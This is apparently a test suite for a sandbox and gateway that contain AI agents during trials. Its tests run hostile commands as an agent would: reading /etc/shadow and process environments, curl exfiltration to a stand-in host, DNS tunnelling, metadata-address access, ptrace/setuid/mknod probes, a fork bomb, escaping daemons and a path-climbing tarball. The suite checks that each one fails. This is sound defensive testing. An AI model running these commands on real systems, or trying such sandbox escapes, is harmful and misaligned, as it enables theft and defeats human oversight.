import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { limitsOf, survivors, textsOf } from './conformance.ts'
import { mergedAuthorities, openAuthority } from './proxy/authority.ts'
import { type Gateway, type GatewayStep, openGateway } from './proxy/gateway.ts'
import { openSandbox, type Sandbox, type SandboxLimits, type SandboxOutcome } from './sandbox.ts'

const SECRET = 'the-secret-of-the-host'
const here = mkdtempSync(join(tmpdir(), 'hostile-'))
let sandbox: Sandbox
let gateway: Gateway
let otherGateway: Gateway
let authorities = ''
const steps: GatewayStep[] = []
const listener = createServer((socket) => socket.end('control plane'))
let listenerPort = 0

before(async () => {
  process.env.HOSTILE_TEST_SECRET = SECRET
  writeFileSync(join(here, 'expected.txt'), SECRET, { mode: 0o644 })
  const opened = await openSandbox({
    choice: 'bubblewrap',
    stateDir: here,
    searchPath: process.env.PATH ?? '',
  })
  if ('unavailable' in opened) throw new Error(opened.unavailable)
  sandbox = opened.sandbox
  const authority = await openAuthority({ stateDir: join(here, 'authority'), now: () => new Date() })
  authorities = await mergedAuthorities(authority)
  const options = {
    authority,
    route: (host: string) =>
      host === 'twin.example' ? ({ kind: 'twin', service: 'chat' } as const) : undefined,
    onRequest: async () => ({ status: 200, headers: {}, body: 'twin' }),
  }
  gateway = await openGateway({ ...options, onStep: (step) => steps.push(step) })
  otherGateway = await openGateway(options)
  await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve))
  const address = listener.address()
  listenerPort = address && typeof address === 'object' ? address.port : 0
})

after(async () => {
  await gateway[Symbol.asyncDispose]()
  await otherGateway[Symbol.asyncDispose]()
  await sandbox[Symbol.asyncDispose]()
  listener.close()
  rmSync(here, { recursive: true })
})

/** Runs an attack as an agent's command, with network and collection, as a trial would. */
function attack(command: string, limits: Partial<SandboxLimits> = {}): Promise<SandboxOutcome> {
  return sandbox.run({
    command,
    files: { 'attack.py': PYTHON },
    limits: limitsOf({ wallMs: 15_000, ...limits }),
    network: { gatewaySocket: gateway.socketPath, hosts: ['twin.example'], authorities },
    collect: { maxFiles: 20, maxBytes: 1_000_000 },
  })
}

/** Attacks that a shell cannot make. Each prints "refused" with the kernel's reason, or "worked". */
const PYTHON = `
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def connect(host, port):
    s = socket.socket(); s.settimeout(2); s.connect((host, int(port))); print(s.recv(100))
def ptrace(pid):
    if libc.ptrace(16, int(pid), None, None) != 0: raise OSError(ctypes.get_errno(), "ptrace")
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet(): socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
def udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x" * 30, (host, 53)); s.recv(10)
def unix(path): s = socket.socket(socket.AF_UNIX); s.connect(path)
def chroot(): os.chroot("/tmp")
def setuid(): os.setuid(0)
def mknod(): os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
def write(path): open(path, "w").write("x")
def read(path): print(open(path).read())
def limits(pid):
    import resource
    resource.prlimit(int(pid), resource.RLIMIT_NPROC, (100000, 100000))
def memory():
    os.memfd_create('x')
def segment():
    if libc.shmget(0, 4096, 0o1600) < 0: raise OSError(ctypes.get_errno(), 'shmget')
def module():
    if libc.syscall(105, b"", 0, b"") != 0: raise OSError(ctypes.get_errno(), "init_module")
try:
    globals()[sys.argv[1]](*sys.argv[2:]); print("worked")
except Exception as e:
    print("refused", type(e).__name__, e)
`

async function isRefused(command: string): Promise<void> {
  const { stdout } = await attack(command)
  assert.match(stdout.text, /refused/)
  assert.doesNotMatch(stdout.text, /worked/)
}

describe('An agent cannot look out of its sandbox', () => {
  test('files of the host are not there', async () => {
    const { stdout } = await attack(
      `cat ${here}/expected.txt; ls ${here} ${process.cwd()} /home /mnt /var /srv; cat /etc/shadow; true`,
    )
    assert.doesNotMatch(stdout.text, new RegExp(SECRET))
    assert.doesNotMatch(stdout.text, /package\.json|root:/)
  })

  test('the host’s environment is not there, not even in the first process’s', async () => {
    const { stdout } = await attack('env; cat /proc/*/environ | tr "\\0" "\\n"; cat /proc/*/cmdline')
    assert.doesNotMatch(stdout.text, new RegExp(SECRET))
  })

  test('processes of the host are neither seen nor signalled', async () => {
    const { stdout } = await attack(
      `ls /proc | grep -c '^[0-9]'; kill -0 ${process.pid} 2>/dev/null && echo reached`,
    )
    assert.ok(Number(stdout.text.split('\n')[0]) < 12)
    assert.doesNotMatch(stdout.text, /reached/)
  })

  test('another trial’s files and socket are out of reach', async () => {
    const [, looking] = await Promise.all([
      attack('echo mine > /tmp/mine; echo mine > $WORK_DIR/mine; echo mine > /dev/shm/mine; sleep 0.5'),
      attack(
        `sleep 0.2; cat /tmp/mine $WORK_DIR/mine /dev/shm/mine; python3 attack.py unix ${otherGateway.socketPath}`,
      ),
    ])
    assert.doesNotMatch(looking.stdout.text, /mine/)
    assert.match(looking.stdout.text, /refused FileNotFoundError/)
  })

  test('no file descriptor of the service is inherited', async () => {
    const { stdout } = await attack('for f in /proc/self/fd/*; do readlink $f; done')
    const odd = stdout.text
      .split('\n')
      .filter((line) => line && !/^(\/dev\/null|socket:|pipe:|\/proc\/)/.test(line))
    assert.deepEqual(odd, [])
    const sockets = stdout.text.split('\n').filter((line) => line.startsWith('socket:')).length
    assert.ok(sockets <= 2, 'only its own output and errors')
  })

  test('the launcher’s memory, descriptors and environment are closed to it', async () => {
    const { stdout } = await attack(
      'for p in 1 2; do cat /proc/$p/environ /proc/$p/mem /proc/$p/maps; ls /proc/$p/root/; done 2>/dev/null; cat /proc/2/fd/3',
    )
    assert.equal(stdout.text, '')
  })

  test('the kernel’s own windows are closed: devices, sysfs, terminal', async () => {
    const { stdout } = await attack('ls /sys /dev/sda /dev/vda /dev/kmsg /dev/mem /dev/tty /dev/ptmx; true')
    assert.equal(stdout.text, '')
  })
})

describe('An agent cannot reach what its trial does not contain', () => {
  test('the control plane on the host’s loopback is not reachable', () =>
    isRefused(`python3 attack.py connect 127.0.0.1 ${listenerPort}`))

  test('the host’s own network addresses are not reachable', async () => {
    const addresses = Object.values(networkInterfaces()).flatMap((list) => list ?? [])
    const outward =
      addresses.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '10.0.0.1'
    await isRefused(`python3 attack.py connect ${outward} ${listenerPort}`)
  })

  test('metadata addresses are not reachable, directly or through the gateway', async () => {
    await isRefused('python3 attack.py connect 169.254.169.254 80')
    const { stdout } = await attack(
      'curl -s -w "%{http_code}" http://169.254.169.254/latest/meta-data; curl -s http://[fd00:ec2::254]/',
    )
    assert.match(stdout.text, /private_address.*403.*private_address/s)
  })

  test('the internet is not reachable by address', () => isRefused('python3 attack.py connect 1.1.1.1 443'))

  test('an unknown host is refused in words, and the refusal is a step', async () => {
    const { stdout } = await attack('curl -s https://exfiltration.example/?q=1')
    assert.match(stdout.text, /not part of this trial/)
    const step = steps.find(({ host }) => host === 'exfiltration.example')
    assert.deepEqual([step?.outcome, step?.status, step?.path], ['refused', 403, '/?q=1'])
  })

  test('the gateway is no way to the host’s loopback, by any spelling', async () => {
    const targets = [
      `127.0.0.1:${listenerPort}`,
      `localhost:${listenerPort}`,
      `[::1]:${listenerPort}`,
      `0x7f.1:${listenerPort}`,
      `[::ffff:127.0.0.1]:${listenerPort}`,
      `2130706433:${listenerPort}`,
    ]
    const calls = targets.flatMap((target) => [
      `curl -s --noproxy "" -x http://127.0.0.1:3128 http://${target}/`,
      `curl -sk -p --noproxy "" -x http://127.0.0.1:3128 http://${target}/`,
    ])
    const { stdout } = await attack(calls.join('; '))
    assert.doesNotMatch(stdout.text, /control plane/)
    assert.equal(stdout.text.match(/"code":"(private_address|host_not_allowed)"/g)?.length, calls.length)
  })

  test('a request cannot name one host to TLS and another inside', async () => {
    const { stdout } = await attack(
      'curl -s https://twin.example/ -H "Host: other.example"; curl -s https://other.example/ -H "Host: twin.example"',
    )
    assert.equal(stdout.text.match(/misdirected/g)?.length, 2)
  })

  test('names carry nothing out: they are answered inside, and no resolver is reachable', async () => {
    const { stdout } = await attack('getent hosts c2VjcmV0.tunnel.example; python3 attack.py udp 8.8.8.8')
    assert.match(stdout.text, /^127\.0\.0\.1/)
    assert.match(stdout.text, /refused/)
  })

  test('upgrades and oversized bodies are refused', async () => {
    const { stdout } = await attack(
      'curl -s https://twin.example/ws -H "Connection: Upgrade" -H "Upgrade: websocket"; head -c 9000000 /dev/zero | curl -s -T - https://twin.example/big',
    )
    assert.match(stdout.text, /upgrade_refused/)
    assert.match(stdout.text, /body_too_large/)
  })

  test('raw sockets are refused', () => isRefused('python3 attack.py raw; python3 attack.py packet'))
})

describe('An agent cannot gain rights', () => {
  test('it has no capability, no new privileges and no root', async () => {
    const { stdout } = await attack('grep -E "^(Cap(Inh|Prm|Eff|Amb)|NoNewPrivs)" /proc/self/status; id -u')
    assert.equal(stdout.text.match(/0000000000000000/g)?.length, 4)
    assert.match(stdout.text, /NoNewPrivs:\s+1/)
    assert.match(stdout.text, /^1000$/m)
  })

  test('it cannot make namespaces of its own', async () => {
    const { stdout } = await attack(
      'for n in -U -r -m -n -p; do unshare $n true 2>/dev/null && echo worked; done; true',
    )
    assert.equal(stdout.text, '')
  })

  test('it cannot mount, chroot, make devices or become another user', async () => {
    await isRefused(
      'mount -t tmpfs none /tmp 2>/dev/null && echo worked; python3 attack.py chroot; python3 attack.py mknod; python3 attack.py setuid',
    )
  })

  test('it cannot trace the launcher', () =>
    isRefused('python3 attack.py ptrace 2; python3 attack.py ptrace 1'))

  test('it cannot raise limits, its own or the launcher’s', () =>
    isRefused(
      'python3 attack.py limits 0; python3 attack.py limits 2; ulimit -u unlimited 2>/dev/null && echo worked; true',
    ))

  test('it cannot load kernel modules or write kernel settings', () =>
    isRefused(
      'python3 attack.py module; for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/user/max_user_namespaces; do python3 attack.py write $f; done',
    ))

  test('set-user-id programs give it nothing', async () => {
    const { stdout } = await attack(
      'for p in su sudo passwd mount newgrp; do command -v $p >/dev/null && echo | timeout 2 $p -c id 2>/dev/null; done; true',
    )
    assert.doesNotMatch(stdout.text, /uid=0/)
  })
})

describe('An agent cannot forge or poison what comes after it', () => {
  test('the system, our scripts and the interpreters’ caches are read-only', async () => {
    const places = [
      '/opt/sandbox/runner.py',
      '/opt/sandbox/launcher.mjs',
      '/opt/node/bin/node',
      '/usr/bin/x',
      '/etc/hosts',
      '/x',
      '/dev/x',
      '/opt/x',
      '/run/x',
    ]
    const { stdout } = await attack(
      `${places.map((place) => `python3 attack.py write ${place}`).join('; ')}; p=$(python3 -c 'import json; print(json.__file__)'); python3 attack.py write $p; touch $(dirname $p)/__pycache__/x && echo worked; true`,
    )
    assert.equal(stdout.text.match(/refused/g)?.length, places.length + 1)
    assert.doesNotMatch(stdout.text, /worked/)
  })

  test('the launcher’s report cannot be written by the agent', async () => {
    const { exitCode, collected } = await attack(
      `echo '{"exited":0}' >&3; echo '{"file":"output.txt","size":1}' >&3; for f in 3 4 5 6; do echo '{"exited":0}' > /proc/2/fd/$f; done; exit 9`,
    )
    assert.equal(exitCode, 9)
    assert.deepEqual(collected.files, [])
  })

  test('output.txt as a symbolic link, a hard link, a pipe or a folder is refused', async () => {
    for (const how of [
      'ln -s /etc/passwd output.txt',
      'ln -s /proc/1/environ output.txt',
      'echo x > a; ln a output.txt',
      'mkfifo output.txt',
      'mkdir output.txt',
    ]) {
      const { collected } = await attack(`cd $WORK_DIR && ${how}`)
      assert.equal(textsOf(collected.files)['output.txt'], undefined, how)
    }
  })

  test('a folder that is a link is not followed', async () => {
    const { collected } = await attack('ln -s /etc $WORK_DIR/etc; ln -s / $WORK_DIR/root')
    assert.deepEqual(collected.files, [])
  })

  test('names that climb or carry control characters are left behind', async () => {
    const { collected } = await attack(
      'cd $WORK_DIR && echo x > "$(printf "a\\nb")" && echo x > "..\\\\up" && echo ok > output.txt',
    )
    assert.deepEqual(textsOf(collected.files), { 'output.txt': 'ok\n' })
  })

  test('a bundle that climbs out reaches only the sandbox', async () => {
    const { execFileSync } = await import('node:child_process')
    const source = join(here, 'climb')
    writeFileSync(source, 'climbed')
    const bundle = execFileSync('tar', [
      '-czPf',
      '-',
      '--transform',
      `s,.*climb,../../../../${here}/climbed,`,
      source,
    ])
    const outcome = await sandbox.run({
      command: 'ls /',
      bundle,
      limits: limitsOf({}),
      network: 'none',
      collect: { maxFiles: 1, maxBytes: 1 },
    })
    assert.ok(['unfit', 'exited'].includes(outcome.ended))
    const { existsSync } = await import('node:fs')
    assert.ok(!existsSync(join(here, 'climbed')))
  })
})

describe('An agent cannot exhaust the machine', () => {
  test('artifacts by the thousand are cut at the limit', async () => {
    const { collected } = await attack('cd $WORK_DIR; for i in $(seq 3000); do : > f$i; done')
    assert.equal(collected.files.length, 20)
    assert.ok(collected.truncated)
  })

  test('an artifact of 10 GiB is refused, real or sparse', async () => {
    const { stdout, collected } = await attack(
      'cd $WORK_DIR; truncate -s 10G sparse 2>&1; head -c 10G /dev/zero > big; ls -l; echo small > output.txt',
    )
    assert.doesNotMatch(stdout.text, /\s10737418240\s/)
    assert.deepEqual(
      Object.keys(textsOf(collected.files)).sort(),
      ['output.txt', 'sparse'].filter((name) => textsOf(collected.files)[name] !== undefined),
    )
  })

  test('no writable folder holds more than its quota', async () => {
    const script =
      'for d in $WORK_DIR /tmp $HOME /dev/shm; do for i in 1 2 3 4; do head -c 30000000 /dev/zero > $d/$i; done; du -sk $d; rm $d/?; done 2>/dev/null'
    const { stdout } = await attack(script, { workBytes: 50_000_000 })
    const sizes = [...stdout.text.matchAll(/^(\d+)/gm)].map((match) => Number(match[1]))
    assert.equal(sizes.length, 4)
    assert.ok(
      sizes.every((size) => size < 70_000),
      stdout.text,
    )
  })

  test('files without number end the job', async () => {
    const make = 'import os\nfor n in range(10**7): os.close(os.open("/tmp/%d" % n, os.O_CREAT))'
    assert.equal((await attack(`python3 -S -c '${make}'`, { workFiles: 3_000 })).ended, 'files')
  })

  test('a fork bomb is held, ends, and leaves nothing', async () => {
    const mark = `bomb${process.pid}`
    const outcome = await attack(`sh -c 'b() { b | b & }; b; : ${mark}; sleep 300'`, {
      wallMs: 2_000,
      processes: 64,
    })
    assert.ok(['timeout', 'exited', 'killed'].includes(outcome.ended))
    assert.ok(outcome.usage.peakProcesses <= 64 + 24)
    assert.deepEqual(survivors(mark), [])
  })

  test('memory in one process or in many is held', async () => {
    const limits = { memoryBytes: 200 * 2 ** 20, fileBytes: 10_000_000, workBytes: 50_000_000 }
    const one = await attack('python3 -S -c "x = bytearray(10**9); print(len(x))"', limits)
    assert.doesNotMatch(one.stdout.text, /1000000000/)
    const hog = 'x = bytearray(10**8)\nfor i in range(0, len(x), 4096): x[i] = 1\nimport time; time.sleep(20)'
    const many = await attack(`for i in 1 2 3 4 5 6; do python3 -S -c '${hog}' & done; wait`, limits)
    assert.equal(many.ended, 'memory')
  })

  test('memory that belongs to no process and no folder cannot be had', () =>
    isRefused('python3 attack.py memory; python3 attack.py segment'))

  test('a processor hog that ignores signals ends at its time', async () => {
    const outcome = await attack(`trap '' TERM INT HUP; while :; do :; done`, { wallMs: 800 })
    assert.equal(outcome.ended, 'timeout')
    assert.ok(outcome.durationMs < 5_000)
  })

  test('daemons in sessions of their own do not survive', async () => {
    const mark = `daemon${process.pid}`
    const daemon = `import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"${mark}"; time.sleep(300)`
    await attack(`python3 -S -c '${daemon}'; sleep 0.1`)
    assert.deepEqual(survivors(mark), [])
  })

  test('killing everything it can, the launcher too, only ends itself', async () => {
    for (let attempt = 0; attempt < 5; attempt++) {
      const outcome = await attack('kill -9 2; sleep 5')
      assert.equal(outcome.ended, 'killed', 'never the platform’s fault, however quick it was')
      assert.deepEqual(outcome.collected.files, [])
    }
    const all = await attack('kill -9 -1; sleep 5')
    assert.ok(['killed', 'exited'].includes(all.ended))
    assert.equal((await attack('echo fine')).stdout.text, 'fine\n')
  })

  test('an endless flood of output is cut and ended', async () => {
    const outcome = await attack('yes', { outputBytes: 10_000 })
    assert.equal(outcome.ended, 'output')
    assert.equal(outcome.stdout.text.length, 10_000)
  })

  test('hundreds of open connections cost only its own trial', async () => {
    const flood =
      'import socket\ns=[]\nfor i in range(900):\n  c=socket.socket(); c.settimeout(1)\n  try: c.connect(("127.0.0.1",3128)); s.append(c)\n  except OSError: break\nprint(len(s) > 0)'
    const { stdout } = await attack(`python3 -S -c '${flood}'`)
    assert.equal(stdout.text, 'True\n')
    assert.equal((await attack('curl -s https://twin.example/')).stdout.text, 'twin')
  })
})
